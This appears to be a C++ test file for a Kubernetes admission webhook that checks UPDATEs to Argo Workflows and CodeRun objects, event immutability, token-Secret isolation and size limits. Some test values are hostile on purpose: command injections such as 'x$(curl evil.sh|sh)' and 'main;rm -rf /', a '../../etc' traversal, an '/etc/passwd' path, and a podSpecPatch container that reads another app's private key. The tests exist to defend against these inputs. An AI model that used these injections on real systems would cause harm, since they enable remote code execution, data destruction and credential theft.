// UPDATE: an update that changes what the webhook guards meets the same checks as a CREATE, and
// what it removed is filled again; one that changes nothing guarded is admitted at once.
#include <catch2/catch.hpp>
#include <filesystem>
#include <fstream>

#include "admission/review.h"
#include "decision/decide.h"
#include "decision/run_inputs.h"
#include "service/admission_events.h"
#include "test_support.h"
#include "util/json_text.h"

using coderun::decision::decide;
using coderun::decision::Decision;
using coderun::decision::Phase;
using coderun::testing::create_request;
using coderun::testing::FakePrompts;
using coderun::testing::params;
using coderun::testing::read_event_fixture;
using coderun::testing::workflow_with;
using nlohmann::json;

namespace {

const coderun::policy::Policy kPolicy{};
// workflowPlumbing: podSpecPatch, for the tests of the Workflow-level plumbing.
const coderun::policy::Policy kPodSpecPatchPolicy = [] {
  coderun::policy::Policy policy;
  policy.workflow_plumbing = coderun::policy::WorkflowPlumbing::kPodSpecPatch;
  return policy;
}();
const FakePrompts kPrompts({"/etc/agents/rex_system-prompt.md",
                            "/etc/agents/default_system-prompt.md"});

coderun::admission::Request update_request(const json& old_object, const json& object) {
  auto request = create_request(object);
  request.operation = "UPDATE";
  request.old_object = old_object;
  return request;
}

Decision update(const json& old_object, const json& object, Phase phase = Phase::kMutate,
                const coderun::policy::Policy& policy = kPolicy) {
  return decide(update_request(old_object, object), policy, kPrompts, phase);
}

json applied(const json& object, const Decision& decision) {
  REQUIRE(decision.response.allowed);
  return decision.response.patch.empty() ? object
                                         : object.patch(decision.response.patch_operations());
}

// A Workflow as the API server stores it after admission.
json stored_workflow(const coderun::policy::Policy& policy = kPolicy) {
  const json submitted = workflow_with(
      params({{"github-app", "rex"}, {"event", read_event_fixture("pull_request.opened").dump()}}));
  return applied(submitted, decide(create_request(submitted), policy, kPrompts, Phase::kMutate));
}

void set_parameter(json& workflow, const std::string& name, const std::string& value) {
  for (auto& parameter : workflow["spec"]["arguments"]["parameters"]) {
    if (parameter["name"] == name) {
      parameter["value"] = value;
      return;
    }
  }
  workflow["spec"]["arguments"]["parameters"].push_back({{"name", name}, {"value", value}});
}

}  // namespace

TEST_CASE("an update that rewrites a guarded parameter is refused as a create would be") {
  const json stored = stored_workflow();
  for (const auto& [name, value, rule] :
       {std::tuple{"github-app", "hacker", "github-app"},
        std::tuple{"ref", "x$(curl evil.sh|sh)", "safe-value:ref"},
        std::tuple{"repoFullName", "../../etc", "safe-value:repoFullName"},
        std::tuple{"systemPromptPath", "/etc/passwd", "safe-value:systemPromptPath"}}) {
    CAPTURE(name, value);
    json changed = stored;
    set_parameter(changed, name, value);
    const auto as_create = decide(create_request(changed), kPolicy, kPrompts, Phase::kMutate);
    REQUIRE_FALSE(as_create.response.allowed);
    for (const auto phase : {Phase::kMutate, Phase::kValidate}) {
      const auto decision = update(stored, changed, phase);
      CHECK_FALSE(decision.response.allowed);
      CHECK(decision.response.code == 403);
      CHECK(decision.response.message == as_create.response.message);
      CHECK(decision.rule == rule);
      CHECK(decision.outcome == "denied");
    }
  }
}

TEST_CASE("an update that leaves the guarded spec alone is admitted at once, whatever the policy") {
  const json stored = stored_workflow();
  // A policy that would now refuse the run: `argo stop` and the controller must still work.
  coderun::policy::Policy stricter;
  stricter.allowed_apps = {"clippy"};
  REQUIRE_FALSE(decide(create_request(stored), stricter, kPrompts, Phase::kMutate)
                    .response.allowed);

  json status_update = stored;
  status_update["status"] = {{"phase", "Running"}};
  json label_update = stored;
  label_update["metadata"]["labels"]["workflows.argoproj.io/phase"] = "Running";
  label_update["metadata"]["labels"].erase("taskmaster.io/github-app");
  json stop = stored;
  stop["spec"]["shutdown"] = "Stop";
  json templates = stored;
  templates["spec"]["templates"] = json::array({{{"name", "main"}}});
  for (const auto& changed : {status_update, label_update, stop, templates}) {
    for (const auto phase : {Phase::kMutate, Phase::kValidate}) {
      const auto decision = update(stored, changed, phase, stricter);
      CHECK(decision.response.allowed);
      CHECK(decision.response.patch.empty());
      CHECK_FALSE(decision.served);
      CHECK(decision.outcome == "ignored");
    }
  }
}

TEST_CASE("kubectl apply of the submitted file again leaves the object as the webhook made it") {
  const json submitted = workflow_with(
      params({{"github-app", "rex"}, {"event", read_event_fixture("pull_request.opened").dump()}}));
  const json stored = stored_workflow(kPodSpecPatchPolicy);
  REQUIRE(stored["spec"].contains("podSpecPatch"));
  REQUIRE(stored["spec"].contains("volumes"));
  // apply's merge patch replaces the parameter list with the file's: the filled ones go; the
  // labels, annotations, volumes and podSpecPatch the webhook added stay.
  json reapplied = stored;
  reapplied["spec"]["arguments"] = submitted["spec"]["arguments"];
  REQUIRE(reapplied["spec"]["arguments"] != stored["spec"]["arguments"]);
  const auto decision = update(stored, reapplied, Phase::kMutate, kPodSpecPatchPolicy);
  CHECK(decision.outcome == "mutated");
  const json result = applied(reapplied, decision);
  CHECK(result["spec"]["arguments"] == stored["spec"]["arguments"]);
  CHECK(result["spec"]["podSpecPatch"] == stored["spec"]["podSpecPatch"]);
  CHECK(result["spec"]["volumes"] == stored["spec"]["volumes"]);
  CHECK(result["metadata"] == stored["metadata"]);
  // And the validating pass admits the refilled object.
  CHECK(update(stored, result, Phase::kValidate, kPodSpecPatchPolicy).response.allowed);
}

TEST_CASE("an update that makes an unserved Workflow served is checked") {
  json unserved = workflow_with(params({{"message", "hi"}}));
  unserved["spec"]["workflowTemplateRef"]["name"] = "other-template";
  json served = unserved;
  set_parameter(served, "github-app", "hacker");
  set_parameter(served, "repoFullName", "a/b");
  const auto decision = update(unserved, served);
  CHECK_FALSE(decision.response.allowed);
  CHECK(decision.rule == "github-app");
}

TEST_CASE("a CodeRun's spec changed by an update is checked; its status alone is not") {
  const json run = {{"apiVersion", "taskmaster.io/v1"},
                    {"kind", "CodeRun"},
                    {"metadata", {{"name", "run-1"}, {"namespace", "argo"}}},
                    {"spec",
                     {{"repo", "a/b"},
                      {"ref", "main"},
                      {"github", {{"appName", "rex"}}},
                      {"taskRef", "task/format"}}}};
  const json stored = applied(run, decide(create_request(run), kPolicy, kPrompts, Phase::kMutate));
  json hostile = stored;
  hostile["spec"]["ref"] = "main;rm -rf /";
  CHECK(update(stored, hostile).rule == "safe-value:ref");
  json status = stored;
  status["status"] = {{"phase", "Succeeded"}};
  CHECK(update(stored, status).outcome == "ignored");
}

TEST_CASE("DELETE and CONNECT are not this webhook's business") {
  const json stored = stored_workflow();
  for (const char* operation : {"DELETE", "CONNECT"}) {
    auto request = create_request(stored);
    request.operation = operation;
    const auto decision = decide(request, kPolicy, kPrompts, Phase::kMutate);
    CHECK(decision.response.allowed);
    CHECK(decision.outcome == "ignored");
  }
}

TEST_CASE("the review decoder reads oldObject as it reads object: only the guarded parts") {
  json old_object = stored_workflow();
  old_object["status"] = {{"nodes", json::array({json::object(), json::object()})}};
  old_object["spec"]["templates"] = json::array({{{"name", "main"}}});
  const json review = {{"apiVersion", "admission.k8s.io/v1"},
                       {"kind", "AdmissionReview"},
                       {"request",
                        {{"uid", "u-1"},
                         {"kind", {{"group", "argoproj.io"}, {"version", "v1alpha1"},
                                   {"kind", "Workflow"}}},
                         {"operation", "UPDATE"},
                         {"namespace", "argo"},
                         {"object", old_object},
                         {"oldObject", old_object}}}};
  coderun::admission::ReviewLimits limits;
  limits.object_fields = &coderun::decision::run_object_fields();
  const auto parsed = coderun::admission::parse_review(review.dump(), limits);
  const auto& request = std::get<coderun::admission::Request>(parsed);
  REQUIRE(request.old_object);
  CHECK_FALSE(request.old_object->contains("status"));
  CHECK_FALSE((*request.old_object)["spec"].contains("templates"));
  CHECK((*request.old_object)["spec"]["arguments"] == old_object["spec"]["arguments"]);
  const auto decision = decide(request, kPolicy, kPrompts, Phase::kValidate);
  CHECK(decision.outcome == "ignored");
}

TEST_CASE("equal_as_kept compares what a keep-list reads, and nothing else") {
  using coderun::util::equal_as_kept;
  using coderun::util::JsonKeep;
  const JsonKeep all;
  const JsonKeep presence{JsonKeep::Mode::kPresence, {}};
  const JsonKeep spec{JsonKeep::Mode::kMembers, {{"a", &all}, {"p", &presence}}};
  const JsonKeep keep{JsonKeep::Mode::kMembers, {{"spec", &spec}}};
  const json base = {{"spec", {{"a", {1, 2}}, {"p", {{"x", 1}}}, {"z", 1}}}, {"status", 1}};
  json other = base;
  other["status"] = 2;
  other["spec"]["z"] = 2;
  other["spec"]["p"]["x"] = 3;  // presence only: same
  CHECK(equal_as_kept(base, other, keep));
  other["spec"]["a"][1] = 3;
  CHECK_FALSE(equal_as_kept(base, other, keep));
  json without = base;
  without["spec"].erase("a");
  CHECK_FALSE(equal_as_kept(base, without, keep));
  CHECK_FALSE(equal_as_kept(without, base, keep));
  json typed = base;
  typed["spec"]["p"] = "text";
  CHECK_FALSE(equal_as_kept(base, typed, keep));
}

TEST_CASE("objects get the prompt path of the agent pod, wherever the webhook reads prompts") {
  const auto local = std::filesystem::temp_directory_path() / "coderun-prompts-test";
  std::filesystem::create_directories(local);
  std::ofstream(local / "rex_system-prompt.md") << "prompt\n";
  const coderun::policy::FileSystemPromptCatalog prompts(local.string());
  const json workflow = workflow_with(params({{"github-app", "rex"}, {"repoFullName", "a/b"}}));
  const auto decision = decide(create_request(workflow), kPolicy, prompts, Phase::kMutate);
  const json result = applied(workflow, decision);
  bool found = false;
  for (const auto& parameter : result["spec"]["arguments"]["parameters"]) {
    if (parameter["name"] == "systemPromptPath") {
      CHECK(parameter["value"] == "/etc/agents/rex_system-prompt.md");
      found = true;
    }
  }
  CHECK(found);
  // A user-set path is checked against the same local copy, under the pods' name.
  json given = workflow_with(params({{"github-app", "rex"},
                                     {"repoFullName", "a/b"},
                                     {"systemPromptPath", "/etc/agents/rex_system-prompt.md"}}));
  CHECK(decide(create_request(given), kPolicy, prompts, Phase::kMutate).response.allowed);
  set_parameter(given, "systemPromptPath", "/etc/agents/missing.md");
  CHECK(decide(create_request(given), kPolicy, prompts, Phase::kMutate).response.message ==
        "Error: System prompt not found at /etc/agents/missing.md");
  // Without a local copy the pods' directory itself is read.
  coderun::policy::Policy elsewhere;
  elsewhere.prompts_dir = (local / "pods").string();
  const coderun::policy::FileSystemPromptCatalog in_pod_dir;
  CHECK(decide(create_request(workflow), elsewhere, in_pod_dir, Phase::kMutate).rule ==
        "system-prompt");
  std::filesystem::create_directories(local / "pods");
  std::ofstream(local / "pods" / "default_system-prompt.md") << "prompt\n";
  CHECK(decide(create_request(workflow), elsewhere, in_pod_dir, Phase::kMutate).response.allowed);
  std::filesystem::remove_all(local);
}

TEST_CASE("an allowed update posts no Event; a refused one is reported on the stored object") {
  const json stored = stored_workflow();
  json named = stored;
  named["metadata"]["name"] = "coderun-abc";
  json refill = named;
  refill["spec"]["arguments"]["parameters"] = json::array(
      {{{"name", "github-app"}, {"value", "rex"}},
       {{"name", "event"}, {"value", read_event_fixture("pull_request.opened").dump()}}});
  for (const auto phase : {Phase::kMutate, Phase::kValidate}) {
    const auto request = update_request(named, refill);
    const auto decision = decide(request, kPolicy, kPrompts, phase);
    REQUIRE(decision.response.allowed);
    CHECK(coderun::service::events_for(request, decision, phase).empty());
  }
  json hostile = named;
  set_parameter(hostile, "github-app", "hacker");
  auto request = update_request(named, hostile);
  request.name = "coderun-abc";
  const auto decision = decide(request, kPolicy, kPrompts, Phase::kMutate);
  const auto events = coderun::service::events_for(request, decision, Phase::kMutate);
  REQUIRE(events.size() == 1);
  CHECK(events[0].reason == "Denied");
  CHECK(events[0].regarding.name == "coderun-abc");
  CHECK(events[0].note == decision.response.message);
}

TEST_CASE("the event of a stored run cannot be replaced by an update; kept as is, it can") {
  const json stored = stored_workflow();
  json replaced = stored;
  set_parameter(replaced, "event", read_event_fixture("push.branch").dump());
  for (const auto phase : {Phase::kMutate, Phase::kValidate}) {
    const auto decision = update(stored, replaced, phase);
    CHECK_FALSE(decision.response.allowed);
    CHECK(decision.rule == "event-immutable");
    CHECK(decision.response.message ==
          "Error: the event of a Workflow cannot be changed once it is created: the values filled "
          "from it would no longer match it; submit a new run for the new event");
  }
  json emptied = stored;
  set_parameter(emptied, "event", "{}");
  CHECK(update(stored, emptied).rule == "event-immutable");
  // The same event with another guarded change goes on to the other checks.
  json other_ref = stored;
  set_parameter(other_ref, "ref", "release");
  CHECK(update(stored, other_ref).response.allowed);

  const json run = {{"apiVersion", "taskmaster.io/v1"},
                    {"kind", "CodeRun"},
                    {"metadata", {{"name", "run-1"}, {"namespace", "argo"}}},
                    {"spec",
                     {{"github", {{"appName", "rex"}}},
                      {"taskRef", "task/x"},
                      {"event", read_event_fixture("pull_request.opened")}}}};
  const json stored_run =
      applied(run, decide(create_request(run), kPolicy, kPrompts, Phase::kMutate));
  json replaced_run = stored_run;
  replaced_run["spec"]["event"] = read_event_fixture("push.branch");
  CHECK(update(stored_run, replaced_run).rule == "event-immutable");
}

TEST_CASE("an update that swaps an integer for an equal-looking float is checked") {
  using coderun::util::equal_as_kept;
  const coderun::util::JsonKeep all;
  CHECK(equal_as_kept(json(2), json(2u), all));
  CHECK_FALSE(equal_as_kept(json::parse("9007199254740993"), json::parse("9007199254740992.0"), all));
  CHECK_FALSE(equal_as_kept(json::parse(R"({"a":[1]})"), json::parse(R"({"a":[1.0]})"), all));
  json stored = stored_workflow();
  json changed = stored;
  for (auto& parameter : changed["spec"]["arguments"]["parameters"]) {
    if (parameter["name"] == "prNumber") parameter["value"] = 2.0;
  }
  CHECK(update(stored, changed).outcome != "ignored");
}

TEST_CASE("a CodeRun's embedded event is guarded whole, not only the fields the resolver reads") {
  const json run = {{"apiVersion", "taskmaster.io/v1"},
                    {"kind", "CodeRun"},
                    {"metadata", {{"name", "run-1"}, {"namespace", "argo"}}},
                    {"spec",
                     {{"github", {{"appName", "rex"}}},
                      {"taskRef", "task/x"},
                      {"event", read_event_fixture("pull_request.opened")}}}};
  const json stored = applied(run, decide(create_request(run), kPolicy, kPrompts, Phase::kMutate));
  json changed = stored;
  changed["spec"]["event"]["pull_request"]["title"] = "something else";
  // Read as the server reads it: through the keep-list.
  const json review = {{"apiVersion", "admission.k8s.io/v1"},
                       {"kind", "AdmissionReview"},
                       {"request",
                        {{"uid", "u-2"},
                         {"kind", {{"group", "taskmaster.io"}, {"version", "v1"}, {"kind", "CodeRun"}}},
                         {"operation", "UPDATE"},
                         {"namespace", "argo"},
                         {"object", changed},
                         {"oldObject", stored}}}};
  coderun::admission::ReviewLimits limits;
  limits.object_fields = &coderun::decision::run_object_fields();
  const auto parsed = coderun::admission::parse_review(review.dump(), limits);
  const auto decision =
      decide(std::get<coderun::admission::Request>(parsed), kPolicy, kPrompts, Phase::kValidate);
  CHECK(decision.rule == "event-immutable");
}

TEST_CASE("a run may read only its own app's token Secret, on create and on update") {
  const std::string denial_start = "Error: the CodeRun reads Secret github-app-rex, the token of "
                                   "another app than its github-app 'clippy'";
  const json rex_run = {{"apiVersion", "taskmaster.io/v1"},
                        {"kind", "CodeRun"},
                        {"metadata", {{"name", "run-1"}, {"namespace", "argo"}}},
                        {"spec",
                         {{"repo", "octo/hello"},
                          {"github", {{"appName", "rex"}}},
                          {"taskRef", "task/x"}}}};
  coderun::policy::Policy policy;
  const FakePrompts prompts({"/etc/agents/rex_system-prompt.md",
                             "/etc/agents/clippy_system-prompt.md"});
  const json stored =
      applied(rex_run, decide(create_request(rex_run), policy, prompts, Phase::kMutate));
  // The update that only renames the app keeps rex's gh-token initContainer: refused.
  json retargeted = stored;
  retargeted["spec"]["github"]["appName"] = "clippy";
  retargeted["spec"]["prompts"]["system"] = "/etc/agents/clippy_system-prompt.md";
  auto request = update_request(stored, retargeted);
  for (const auto phase : {Phase::kMutate, Phase::kValidate}) {
    const auto decision = decide(request, policy, prompts, phase);
    CHECK(decision.rule == "token-secret");
    CHECK_THAT(decision.response.message, Catch::StartsWith(denial_start));
  }
  // The same on create, and through each way a pod spec names a Secret.
  const std::vector<json> references = {
      json::parse(R"({"initContainers": [{"name": "x", "env": [{"name": "K", "valueFrom":
                      {"secretKeyRef": {"name": "github-app-rex", "key": "privateKey"}}}]}]})"),
      json::parse(R"({"initContainers": [{"name": "x", "envFrom": [{"secretRef": {"name": "github-app-rex"}}]}]})"),
      json::parse(R"({"volumes": [{"name": "v", "secret": {"secretName": "github-app-rex"}}]})"),
      json::parse(R"({"volumes": [{"name": "v", "projected": {"sources": [{"secret": {"name": "github-app-rex"}}]}}]})")};
  for (const auto& reference : references) {
    CAPTURE(reference.dump());
    json run = rex_run;
    run["spec"]["github"]["appName"] = "clippy";
    run["spec"].update(reference);
    CHECK(decide(create_request(run), policy, prompts, Phase::kMutate).rule == "token-secret");
    // Its own app's Secret, or a Secret that is no token, is the run's business.
    json own = run;
    own["spec"]["github"]["appName"] = "rex";
    CHECK(decide(create_request(own), policy, prompts, Phase::kMutate).rule != "token-secret");
  }
  // A Workflow: in spec.volumes and in its podSpecPatch (YAML or JSON).
  json workflow = workflow_with(coderun::testing::params({{"github-app", "clippy"}, {"repoFullName", "a/b"}}));
  json in_patch = workflow;
  in_patch["spec"]["podSpecPatch"] =
      "initContainers:\n- name: steal\n  env:\n  - name: K\n    valueFrom:\n      secretKeyRef:\n"
      "        name: github-app-rex\n        key: privateKey\n";
  const auto refused = decide(create_request(in_patch), policy, prompts, Phase::kMutate);
  CHECK(refused.rule == "token-secret");
  CHECK_THAT(refused.response.message,
             Catch::StartsWith("Error: the Workflow reads Secret github-app-rex"));
  json in_volumes = workflow;
  in_volumes["spec"]["volumes"] = json::parse(R"([{"name": "v", "secret": {"secretName": "github-app-rex"}}])");
  CHECK(decide(create_request(in_volumes), policy, prompts, Phase::kValidate).rule == "token-secret");
  json unrelated = workflow;
  unrelated["spec"]["volumes"] = json::parse(R"([{"name": "v", "secret": {"secretName": "db-password"}}])");
  CHECK(decide(create_request(unrelated), policy, prompts, Phase::kMutate).response.allowed);
}

TEST_CASE("a run admitted within the value budget stays updatable, however large both objects are") {
  // 30,000 values in one parameter: admitted on create; object and oldObject together are twice
  // that, over the 50,000 budget, and `argo stop` must still pass (it was a 413 denial).
  json stored = stored_workflow();
  json enumerated = json::array();
  for (int i = 0; i < 30'000; ++i) enumerated.push_back("v" + std::to_string(i));
  stored["spec"]["arguments"]["parameters"].push_back({{"name", "choice"}, {"value", "v1"}, {"enum", enumerated}});
  json stopped = stored;
  stopped["spec"]["shutdown"] = "Stop";
  const auto review_of = [](const json& object, const json& old_object) {
    return json{{"apiVersion", "admission.k8s.io/v1"},
                {"kind", "AdmissionReview"},
                {"request",
                 {{"uid", "u-3"},
                  {"kind", {{"group", "argoproj.io"}, {"version", "v1alpha1"}, {"kind", "Workflow"}}},
                  {"operation", "UPDATE"},
                  {"namespace", "argo"},
                  {"object", object},
                  {"oldObject", old_object}}}}
        .dump();
  };
  coderun::admission::ReviewLimits limits;
  limits.object_fields = &coderun::decision::run_object_fields();
  const auto parsed = coderun::admission::parse_review(review_of(stopped, stored), limits);
  const auto& request = std::get<coderun::admission::Request>(parsed);
  REQUIRE(request.object);
  REQUIRE(request.old_object);
  CHECK(request.object_problem.empty());
  const auto decision = decide(request, kPolicy, kPrompts, Phase::kValidate);
  CHECK(decision.response.allowed);
  CHECK(decision.outcome == "ignored");
  // A guarded change on the same objects is still decided in full.
  json hostile = stored;
  set_parameter(hostile, "github-app", "hacker");
  const auto checked = coderun::admission::parse_review(review_of(hostile, stored), limits);
  CHECK(decide(std::get<coderun::admission::Request>(checked), kPolicy, kPrompts, Phase::kMutate).rule ==
        "github-app");
  // An oldObject over the budget on its own is a clear denial naming it, not a failed call.
  json huge = stored;
  for (int i = 0; i < 30'000; ++i) huge["spec"]["arguments"]["parameters"].back()["enum"].push_back("w" + std::to_string(i));
  const auto too_large = coderun::admission::parse_review(review_of(stopped, huge), limits);
  const auto& big = std::get<coderun::admission::Request>(too_large);
  CHECK_THAT(big.object_problem, Catch::StartsWith("request.oldObject is too large to decide on"));
  const auto refused = decide(big, kPolicy, kPrompts, Phase::kValidate);
  CHECK(refused.response.code == 413);
}
